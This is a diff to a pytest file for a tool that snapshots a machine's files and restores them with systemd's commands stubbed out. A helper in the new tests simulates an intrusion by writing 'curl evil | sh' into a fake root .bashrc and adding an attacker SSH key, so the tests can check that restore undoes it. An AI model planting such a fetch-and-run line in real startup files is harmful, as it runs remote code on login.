@@ -1,4 +1,4 @@
-"""Saving and restoring a machine's /etc: in a folder, with systemd's commands replaced."""
+"""Saving and restoring a machine's files: in a folder, with systemd's commands replaced."""
 
 from __future__ import annotations
 
@@ -15,7 +15,7 @@ from typing import Any
 
 import pytest
 
-from labkit.agents import machine_state
+from labkit.agents import fingerprint, machine_state
 from labkit.agents.machine_state import Machine
 
 
@@ -35,10 +35,13 @@ RUNNING = (
 @pytest.fixture
 def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Machine:
     root = tmp_path / "root"
-    for folder in ("etc/kubernetes", "etc/systemd/system", "etc/cni", "run/systemd/system"):
+    empty = ("home", "tmp", "usr/local/bin", "etc/systemd/system", "etc/cni", "run/systemd/system")
+    for folder in ("etc/kubernetes", "root", *empty):
         (root / folder).mkdir(parents=True)
     for name in ("hosts", "hostname", "resolv.conf", "kubernetes/kubelet.yaml", "passwd"):
         (root / "etc" / name).write_text(f"{name} as it was\n")
+    (root / "root/.bashrc").write_text("as it was\n")
+    (root / "usr/local/bin/etcd").write_text("a large program\n")
     monkeypatch.setattr(time, "monotonic", lambda: 200.5)
     return Machine(root)
 
@@ -82,8 +85,14 @@ def test_unchanged_machine_is_left_alone(machine: Machine, systemctl: Path) -> N
         lambda etc: (etc / "kubernetes/kubelet.yaml").unlink(),
         lambda etc: (etc / "systemd/system/kubelet.service.d").mkdir(),
         lambda etc: (etc / "kubernetes/more.yaml").write_text("more"),
+        lambda etc: (etc / "more").write_text("more"),
+        lambda etc: (etc / "hostname").with_name("gone").symlink_to("nowhere"),
+        lambda etc: (etc / "passwd").unlink(),
     ],
-    ids=["changed", "changed elsewhere", "mode", "gone", "drop-in", "more"],
+    ids=[
+        *("changed", "changed elsewhere", "mode", "gone", "drop-in", "more", "more elsewhere"),
+        *("link", "gone elsewhere"),
+    ],
 )
 def test_differences_are_undone_and_every_unit_is_restarted(
     machine: Machine, systemctl: Path, change: Any
@@ -98,6 +107,36 @@ def test_differences_are_undone_and_every_unit_is_restarted(
     assert not (machine.root / "etc/systemd/system/kubelet.service.d").exists()
     assert restarts(systemctl) == [f"restart {UNIT}"]
     assert "daemon-reload" in systemctl.read_text()
+
+
+def add_user(root: Path) -> None:
+    """Leave what useradd and a terminal leave outside /etc."""
+    (root / "home/eve/.ssh").mkdir(parents=True)
+    (root / "home/eve/.ssh/authorized_keys").write_text("a key")
+    (root / "root/.bashrc").write_text("curl evil | sh")
+    (root / "root/.bash_history").write_text("useradd eve")
+    os.mkfifo(root / "tmp/out")
+    (root / "usr/local/bin/tool").write_text("more")
+
+
+def test_files_of_people_are_put_back_and_no_unit_is_restarted(
+    machine: Machine, systemctl: Path
+) -> None:
+    saved(machine)
+    before = fingerprint.files(machine.root)
+    add_user(machine.root)
+    assert fingerprint.files(machine.root) != before
+    machine.restore([UNIT])
+    assert fingerprint.files(machine.root) == before
+    assert not restarts(systemctl)
+
+
+def test_what_is_not_compared_is_not_deleted(machine: Machine, systemctl: Path) -> None:
+    saved(machine)
+    private = machine.root / "tmp/systemd-private-1-a.service/tmp"
+    private.mkdir(parents=True)
+    machine.restore([UNIT])
+    assert private.is_dir()
 
 
 def test_restored_machine_is_left_alone_the_next_time(machine: Machine, systemctl: Path) -> None:
@@ -115,7 +154,6 @@ def test_file_changed_back_is_not_a_difference(machine: Machine, systemctl: Path
     saved(machine)
     file = machine.root / "etc/passwd"
     file.write_text(file.read_text())
-    assert machine.touched()
     machine.restore([UNIT])
     assert not restarts(systemctl)
 
@@ -203,7 +241,7 @@ def test_saved_state_is_readable_by_root_only(
 def test_restore_after_one_that_was_killed_restarts_every_unit(
     machine: Machine, systemctl: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    put_back = machine.put_back
+    put_back = machine.put_back_configuration
 
     def killed() -> None:
         put_back()
@@ -212,7 +250,7 @@ def test_restore_after_one_that_was_killed_restarts_every_unit(
     saved(machine)
     (machine.root / "etc/kubernetes/kubelet.yaml").write_text("changed")
     with monkeypatch.context() as patched:
-        patched.setattr(machine, "put_back", killed)
+        patched.setattr(machine, "put_back_configuration", killed)
         with pytest.raises(KeyboardInterrupt):
             machine.restore([UNIT])
     assert not restarts(systemctl)
